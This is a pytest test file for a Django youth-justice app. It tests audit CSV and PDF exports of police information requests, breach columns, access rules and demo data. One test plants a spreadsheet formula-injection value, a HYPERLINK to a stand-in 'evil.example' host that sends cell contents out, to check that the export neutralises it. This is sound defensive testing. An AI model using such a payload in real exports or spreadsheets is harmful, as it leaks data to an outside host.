"""The audit exports (DESIGN.md §3, §4): every request in the period with the five minimum
fields, turnaround and the rule checks; formula-safe; audited; fixed query counts."""

import csv
import io
from datetime import date, datetime, timedelta

import pytest
from django.db import connection
from django.template.loader import render_to_string
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from weasyprint import HTML

from cases import services as case_services
from cases.models import CaseStatus, CaseType
from cases.tests.factories import CaseFactory
from intelligence import exports, selectors, services
from intelligence.demo import REQUESTS_PER_UNIT, load_intelligence_demo
from intelligence.models import InformationRequest, PhoneCheckOutcome, RequestStatus, RequestType, SensitiveContext
from intelligence.tests.factories import InformationRequestFactory
from yjs.demo import load_demo_users
from yjs.models import AuditAction, AuditEvent, Team, User
from yjs.roles import Role
from yjs.tests.factories import UserFactory

AUDIT_URL = "/api/v1/intelligence/audit.csv"
PDF_URL = "/api/v1/intelligence/audit.pdf"
OPEN_TO_YJS_URL = "/api/v1/intelligence/open-to-yjs.csv"
MARCH = {"from": "2026-03-01", "to": "2026-03-31"}


def local(*args) -> datetime:
    return timezone.make_aware(datetime(*args))


def rows_of(response) -> list[dict[str, str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.fixture
def police(api_client, police_officer):
    api_client.force_authenticate(police_officer)
    return api_client


@pytest.fixture
def child(case_worker):
    return case_services.child_create(
        by=case_worker, surname="Smith", forenames="John", date_of_birth=date(2011, 3, 14), known_to_yjs=False
    )


@pytest.fixture
def case(child, case_worker, team_north):
    return case_services.case_open(
        child=child,
        by=case_worker,
        case_type=CaseType.REFERRAL_ORDER,
        team=team_north,
        start_date=date(2026, 2, 2),
        allocated_to=case_worker,
    )


def test_the_audit_csv_has_every_request_of_the_period_with_the_five_fields(
    police, police_officer, case_worker, child, case
):
    requested_at = local(2026, 3, 2, 10, 30)
    first = services.information_request_create(
        child=child,
        case=case,
        by=case_worker,
        request_type=RequestType.RISK,
        what_requested="Any weapons markers",
        requested_at=requested_at,
    )
    services.information_request_supply(
        request=first, by=police_officer, systems=["pnc", "intelligence"], supplied="Knife marker since 2025"
    )
    second = services.information_request_create(
        child=child,
        case=case,
        by=case_worker,
        request_type=RequestType.ADDITIONAL,
        what_requested="Address history",
        reason="Planning a home visit",
        requested_at=local(2026, 3, 31, 23, 30),  # the last evening of the period, in local time
    )
    InformationRequestFactory(requested_at=local(2026, 4, 1, 0, 10))  # the next day: not in March
    InformationRequestFactory(requested_at=local(2026, 2, 28, 23, 50))

    response = police.get(AUDIT_URL, MARCH)

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="information-requests-20260301-20260331.csv"'
    rows = rows_of(response)
    assert [row["Request id"] for row in rows] == [str(first.pk), str(second.pk)]
    supplied = rows[0]
    assert supplied["Date of request"] == "2026-03-02 10:30"
    assert supplied["Requested by"] == str(case_worker)
    assert supplied["What was requested"] == "Any weapons markers"
    assert supplied["Police systems searched"] == "Police National Computer (PNC); Intelligence database"
    assert supplied["Information supplied"] == "Knife marker since 2025"
    assert supplied["Child"] == "John Smith"
    assert supplied["Type of request"] == "Information about an identified risk"
    assert supplied["Supplied by"] == str(police_officer)
    assert supplied["Turnaround (working hours)"] != ""
    assert rows[1]["Reason"] == "Planning a home visit"
    assert rows[1]["Information supplied"] == ""
    for rule in selectors.RULES:
        assert supplied[f"Breach: {rule.label}"] == "no"


def test_the_rule_columns_say_yes_for_a_breach(police, police_officer):
    monday = local(2026, 3, 2, 9)
    # Made as the database allows but the services would not: an audit must still show it.
    InformationRequestFactory(
        supplied=True,
        requested_at=monday,
        sensitive_context=SensitiveContext.LIVE_INVESTIGATION,
        oic_consulted_name="DC Late",
        oic_consulted_at=monday + timedelta(days=1),
        safeguarding_concern=True,
    )

    (row,) = rows_of(police.get(AUDIT_URL, MARCH))

    assert row["Breach: Sensitive request supplied without consulting the officer in the case"] == "yes"
    assert row["Breach: Safeguarding concern without a referral"] == "yes"
    assert row["Breach: Supplied without a system searched"] == "no"
    assert row["Safeguarding concern"] == "yes"


def test_formula_looking_values_are_neutralised(police, case_worker, child, case):
    services.information_request_create(
        child=child,
        case=case,
        by=case_worker,
        request_type=RequestType.ADDITIONAL,
        what_requested='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        reason="+SUM(1,2)",
        requested_at=local(2026, 3, 3, 9),
    )

    (row,) = rows_of(police.get(AUDIT_URL, MARCH))

    assert row["What was requested"] == '\'=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    assert row["Reason"] == "'+SUM(1,2)"


def test_the_export_is_an_audit_event(police, police_officer):
    request = InformationRequestFactory(supplied=True, requested_at=local(2026, 3, 2, 9))

    police.get(AUDIT_URL, MARCH)

    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.actor == police_officer
    assert event.detail == {
        "export": "information_request_audit_csv",
        "rows": 1,
        "from": "2026-03-01",
        "to": "2026-03-31",
        "requests": [request.pk],
    }


@pytest.mark.parametrize(
    ("params", "fields"),
    [
        ({}, {"from", "to"}),
        ({"from": "2026-03-01"}, {"to"}),
        ({"from": "01/03/2026", "to": "2026-03-31"}, {"from"}),
        ({"from": "2026-02-30", "to": "2026-03-31"}, {"from"}),
        ({"from": "2026-03-31", "to": "2026-03-01"}, {"to"}),
    ],
)
@pytest.mark.parametrize("url", [AUDIT_URL, PDF_URL])
def test_missing_or_invalid_dates_are_400_field_errors(police, url, params, fields):
    response = police.get(url, params, HTTP_ACCEPT="text/csv,application/pdf")

    assert response.status_code == 400
    assert response["Content-Type"] == "application/json"
    assert set(response.json()) == fields
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT).exists()


def test_a_download_does_not_depend_on_the_accept_header(police):
    response = police.get(AUDIT_URL, MARCH, HTTP_ACCEPT="text/csv")

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize("url", [AUDIT_URL, PDF_URL, OPEN_TO_YJS_URL])
def test_case_workers_cannot_export(api_client, case_worker, url):
    api_client.force_authenticate(case_worker)

    response = api_client.get(url, MARCH)

    assert response.status_code == 403
    assert not AuditEvent.objects.filter(action=AuditAction.EXPORT).exists()


def test_a_manager_exports_only_the_requests_they_may_see(api_client, team_manager, team_south, case):
    theirs = InformationRequestFactory(case=case, child=case.child, requested_at=local(2026, 3, 2, 9))
    InformationRequestFactory(requested_at=local(2026, 3, 2, 9))  # no case of the manager's team
    api_client.force_authenticate(team_manager)

    rows = rows_of(api_client.get(AUDIT_URL, MARCH))

    assert [row["Request id"] for row in rows] == [str(theirs.pk)]


def test_the_audit_csv_reads_a_fixed_number_of_queries(police, police_officer):
    def queries_for_export(total):
        while InformationRequest.objects.count() < total:
            request = InformationRequestFactory(supplied=True, requested_at=local(2026, 3, 2, 9), systems=["pnc"])
            services.addendum_add(request=request, by=police_officer, text="Correction")
        with CaptureQueriesContext(connection) as queries:
            response = police.get(AUDIT_URL, MARCH)
        assert len(rows_of(response)) == total
        return len(queries)

    assert queries_for_export(10) == queries_for_export(100)


# --- PDF ----------------------------------------------------------------------------------------


def test_the_audit_pdf_is_a_landscape_pdf_and_audited(police, police_officer):
    InformationRequestFactory(supplied=True, requested_at=local(2026, 3, 2, 9))

    response = police.get(PDF_URL, MARCH, HTTP_ACCEPT="application/pdf")

    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response.content.startswith(b"%PDF")
    event = AuditEvent.objects.get(action=AuditAction.EXPORT)
    assert event.detail["export"] == "information_request_audit_pdf"


def test_the_audit_pdf_has_the_csvs_content(police_officer):
    request = InformationRequestFactory(
        supplied=True,
        requested_at=local(2026, 3, 2, 9),
        what_requested="Any weapons markers",
        information_supplied="Knife marker since 2025",
        safeguarding_concern=True,
    )
    entries = exports.audit_entries(
        selectors.requests_in_period(user=police_officer, start=date(2026, 3, 1), end=date(2026, 3, 31))
    )
    html = render_to_string(
        "intelligence/audit_pdf.html",
        {
            "start": date(2026, 3, 1),
            "end": date(2026, 3, 31),
            "entries": entries,
            "breach_counts": [(rule, 0) for rule in selectors.RULES],
            "generated_at": timezone.localtime(),
            "generated_by": police_officer,
        },
    )

    assert "Police information requests: audit" in html
    assert "1 March 2026 to 31 March 2026" in html
    for text in (
        "2026-03-02 09:00",
        str(request.requested_by),
        "Any weapons markers",
        "Police National Computer (PNC)",
        "Knife marker since 2025",
    ):
        assert text in html
    assert "Safeguarding concern without a referral" in html
    page = HTML(string=html).render().pages[0]
    assert (round(page.width), round(page.height)) == (1123, 794)  # A4 landscape in CSS pixels


# --- Open to YJS --------------------------------------------------------------------------------


def test_open_to_yjs_lists_the_children_with_open_cases(police, police_officer, case, case_worker, team_north):
    closed_child = case_services.child_create(
        by=case_worker, surname="Closed", forenames="Case", date_of_birth=date(2010, 1, 1), known_to_yjs=False
    )
    closed = case_services.case_open(
        child=closed_child,
        by=case_worker,
        case_type=CaseType.PREVENTION,
        team=team_north,
        start_date=date(2026, 1, 5),
    )
    manager = UserFactory(username="closer", roles=[Role.TEAM_MANAGER], teams=[team_north])
    case_services.case_close(case=closed, by=manager, end_date=date(2026, 2, 1), reason="Completed")
    case_services.child_update(child=case.child, by=case_worker, pnc_id="=1+1")

    response = police.get(OPEN_TO_YJS_URL)

    assert response.status_code == 200
    (row,) = rows_of(response)
    assert (row["Surname"], row["Forenames"], row["Date of birth"]) == ("Smith", "John", "2011-03-14")
    assert row["PNC ID"] == "'=1+1"
    assert row["Open cases"] == "Referral order"
    assert row["Teams"] == "North"
    assert row["Open since"] == "2026-02-02"
    assert AuditEvent.objects.filter(action=AuditAction.EXPORT, actor=police_officer).count() == 1


# --- Demo data ---------------------------------------------------------------------------------


@pytest.fixture
def demo_cases(db):

    load_demo_users(password="demo-pass-for-tests-2026")
    teams = {team.slug: team for team in Team.objects.all()}
    workers = {"north": User.objects.get(username="caseworker"), "south": User.objects.get(username="caseworker2")}
    case_types = [CaseType.REFERRAL_ORDER, CaseType.DIVERSION, CaseType.DETENTION_AND_TRAINING_ORDER, CaseType.REMAND]
    cases = []
    for i, case_type in enumerate(case_types * 2):
        slug = "north" if i % 2 else "south"
        cases.append(
            CaseFactory(case_type=case_type, team=teams[slug], allocated_to=workers[slug], created_by=workers[slug])
        )
    CaseFactory(
        team=teams["north"], status=CaseStatus.CLOSED, end_date=timezone.localdate(), created_by=workers["north"]
    )
    return cases


def test_the_demo_makes_every_type_and_state_and_runs_once(demo_cases):

    load_intelligence_demo(seed=7)
    load_intelligence_demo(seed=7)

    requests = list(InformationRequest.objects.prefetch_related("systems_searched", "addenda"))
    assert len(requests) == REQUESTS_PER_UNIT
    assert {request.request_type for request in requests} == set(RequestType.values)
    assert {request.status for request in requests} == set(RequestStatus.values)
    assert {request.phone_check_outcome for request in requests} >= set(PhoneCheckOutcome.values)
    assert any(request.addenda.all() for request in requests)
    assert any(request.safeguarding_referral_at and request.status == "closed" for request in requests)
    assert any(request.sensitive_context != "none" and request.oic_consulted_at for request in requests)
    breaches = [set(selectors.rule_breaches(request)) for request in requests]
    assert any("written_request_late" in found for found in breaches)
    assert any("safeguarding_referral_missing" in found for found in breaches)
    # In a state the services could have produced.
    for request, found in zip(requests, breaches, strict=True):
        assert not found & {"reason_missing", "no_system_searched", "nothing_supplied", "oic_not_consulted"}
        assert not found & {"phone_consent_missing", "authorisation_missing"}
        if request.phone_check_outcome == PhoneCheckOutcome.APPROVED:
            assert request.contact_not_a_victim and request.contact_not_a_co_offender
        assert request.requested_at <= timezone.now()
        assert request.supplied_at is None or request.requested_at <= request.supplied_at <= timezone.now()


def test_the_demo_does_nothing_without_cases(db):

    assert "load the demo users and cases first" in load_intelligence_demo()
    assert not InformationRequest.objects.exists()
